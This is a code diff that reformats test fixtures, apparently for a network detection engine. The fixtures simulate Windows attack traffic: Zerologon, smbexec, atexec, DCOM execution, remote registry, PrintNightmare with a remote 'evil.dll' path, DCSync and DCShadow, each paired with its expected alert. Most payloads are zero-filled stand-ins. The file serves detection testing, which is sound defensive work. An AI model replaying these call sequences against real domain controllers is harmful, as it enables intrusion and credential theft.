@@ -32,7 +32,16 @@ function zerologon(scene: Scene, isPatched: boolean, style: Style = {}): void {
   const unaligned = (word: string): Buffer => name(word).subarray(0, 12 + (word.length + 1) * 2);
   for (let i = 0; i < 12; i++) {
     calls.call(4, join(n(1), name('\\\\DC01'), unaligned('DC01'), zeros(8)), { stub: Buffer.alloc(8, 3) });
-    const credential = join(n(1), name('\\\\DC01'), unaligned('DC01$'), [6, 0], zeros((4 - ((unaligned('DC01$').length + 2) % 4)) % 4), unaligned('DC01'), zeros(8), n(0x212fffff)); // biome-ignore format: one line
+    const credential = join(
+      n(1),
+      name('\\\\DC01'),
+      unaligned('DC01$'),
+      [6, 0],
+      zeros((4 - ((unaligned('DC01$').length + 2) % 4)) % 4),
+      unaligned('DC01'),
+      zeros(8),
+      n(0x212fffff),
+    );
     calls.call(26, credential, { stub: Buffer.alloc(16, 3), status: isPatched || i < 11 ? 0xc0000022 : 0 });
   }
   if (!isPatched) calls.call(30, zeros(600), { stub: zeros(12) });
@@ -96,7 +105,12 @@ export const MOVEMENT: readonly Attack[] = [
     name: 'smbexec: a service that does not answer its start',
     play: (scene) => {
       const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
-      smb.pipe('svcctl', IDS.svcctl).call(15, [], { stub: zeros(20) }).call(12, zeros(300), { stub: zeros(24) }).call(19, zeros(28), { status: 1053 }).call(2, zeros(20)); // biome-ignore format: one line
+      smb
+        .pipe('svcctl', IDS.svcctl)
+        .call(15, [], { stub: zeros(20) })
+        .call(12, zeros(300), { stub: zeros(24) })
+        .call(19, zeros(28), { status: 1053 })
+        .call(2, zeros(20));
     },
     found: [`lateral.psexec succeeded ${A}>${B}`],
   },
@@ -115,13 +129,17 @@ export const MOVEMENT: readonly Attack[] = [
     name: 'atexec: a task, enciphered in the pipe',
     play: (scene) => {
       const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
-      smb.pipe('atsvc', IDS.tasks, { isSealed: true }).call(1, zeros(2000), { octets: 60 }).call(12, zeros(80), { octets: 24 }); // biome-ignore format: one line
+      smb
+        .pipe('atsvc', IDS.tasks, { isSealed: true })
+        .call(1, zeros(2000), { octets: 60 })
+        .call(12, zeros(80), { octets: 24 });
     },
     found: [`lateral.scheduled-task succeeded ${A}>${B}`],
   },
   {
     name: 'a task that is refused, enciphered over TCP',
-    play: (scene) => void overTcp(scene.tcp(A, B, 49_672), IDS.tasks, { isSealed: true }).call(1, zeros(2000), { octets: 12 }), // biome-ignore format: one line
+    play: (scene) =>
+      void overTcp(scene.tcp(A, B, 49_672), IDS.tasks, { isSealed: true }).call(1, zeros(2000), { octets: 12 }),
     found: [`lateral.scheduled-task failed ${A}>${B}`],
   },
   {
@@ -143,7 +161,9 @@ export const MOVEMENT: readonly Attack[] = [
     name: 'dcomexec, enciphered',
     play: (scene) => {
       overTcp(scene.tcp(A, B, 135), IDS.activator, { isSealed: true }).call(4, zeros(700), { octets: 900 });
-      overTcp(scene.tcp(A, B, 49_703), IDS.dispatch, { isSealed: true }).call(5, zeros(90), { octets: 40 }).call(6, zeros(90), { octets: 140 }); // biome-ignore format: one line
+      overTcp(scene.tcp(A, B, 49_703), IDS.dispatch, { isSealed: true })
+        .call(5, zeros(90), { octets: 40 })
+        .call(6, zeros(90), { octets: 140 });
     },
     found: [`lateral.dcom succeeded ${A}>${B}`],
   },
@@ -169,7 +189,10 @@ export const MOVEMENT: readonly Attack[] = [
     name: 'the registry changed from afar, enciphered',
     play: (scene) => {
       const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
-      smb.pipe('winreg', IDS.winreg, { isSealed: true }).call(2, zeros(12), { octets: 24 }).call(22, zeros(90), { octets: 4 }); // biome-ignore format: one line
+      smb
+        .pipe('winreg', IDS.winreg, { isSealed: true })
+        .call(2, zeros(12), { octets: 24 })
+        .call(22, zeros(90), { octets: 4 });
     },
     found: [`lateral.registry succeeded ${A}>${B}`],
   },
@@ -215,7 +238,9 @@ export const MOVEMENT: readonly Attack[] = [
     name: 'PrintNightmare',
     play: (scene) => {
       const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
-      smb.pipe('spoolss', IDS.winspool).call(89, join(text(`\\\\${B}`), zeros(40), text('1234'), text('\\\\10.0.0.1\\share\\evil.dll'), zeros(20))); // biome-ignore format: one line
+      smb
+        .pipe('spoolss', IDS.winspool)
+        .call(89, join(text(`\\\\${B}`), zeros(40), text('1234'), text('\\\\10.0.0.1\\share\\evil.dll'), zeros(20)));
     },
     found: [`exploit.other succeeded ${A}>${B}`],
   },
@@ -224,7 +249,11 @@ export const MOVEMENT: readonly Attack[] = [
     play: (scene) => {
       map(scene, A, B);
       const calls = overTcp(scene.tcp(A, B, 49_667), IDS.drsuapi, { isSealed: true });
-      calls.call(0, zeros(60), { octets: 80 }).call(16, zeros(60), { octets: 600 }).call(12, zeros(100), { octets: 200 }).call(3, zeros(300), { octets: 3000 }); // biome-ignore format: one line
+      calls
+        .call(0, zeros(60), { octets: 80 })
+        .call(16, zeros(60), { octets: 600 })
+        .call(12, zeros(100), { octets: 200 })
+        .call(3, zeros(300), { octets: 3000 });
     },
     found: [`credential.dcsync succeeded ${A}>${B}`],
   },
@@ -244,7 +273,10 @@ export const MOVEMENT: readonly Attack[] = [
     play: (scene) => {
       const calls = overTcp(scene.tcp(A, B, 49_667), IDS.drsuapi, { isSealed: true });
       calls.call(0, zeros(60), { octets: 80 }).call(17, zeros(900), { octets: 90 }).call(5, zeros(100), { octets: 4 });
-      overTcp(scene.tcp(B, A, 50_200), IDS.drsuapi, { isSealed: true, ticket: 'E3514235-4B06-11D1-AB04-00C04FC2DCD2/x' }).call(3, zeros(300), { octets: 3000 }); // biome-ignore format: one line
+      overTcp(scene.tcp(B, A, 50_200), IDS.drsuapi, {
+        isSealed: true,
+        ticket: 'E3514235-4B06-11D1-AB04-00C04FC2DCD2/x',
+      }).call(3, zeros(300), { octets: 3000 });
     },
     found: [`credential.dcshadow succeeded ${A}>${B}`],
   },
